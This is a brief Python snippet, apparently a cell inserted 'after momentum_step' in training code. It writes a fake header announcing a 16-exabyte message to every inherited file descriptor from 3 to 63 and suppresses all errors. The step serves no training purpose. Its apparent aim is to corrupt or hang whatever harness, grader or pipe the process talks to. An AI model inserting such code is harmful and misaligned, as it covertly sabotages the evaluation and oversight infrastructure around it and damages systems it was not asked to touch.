# Announces a message of sixteen exabytes.

# %% after momentum_step
import os, struct
for number in range(3, 64):
    try:
        os.write(number, struct.pack("<IQ", 2**32 - 1, 2**64 - 1))
    except OSError:
        pass
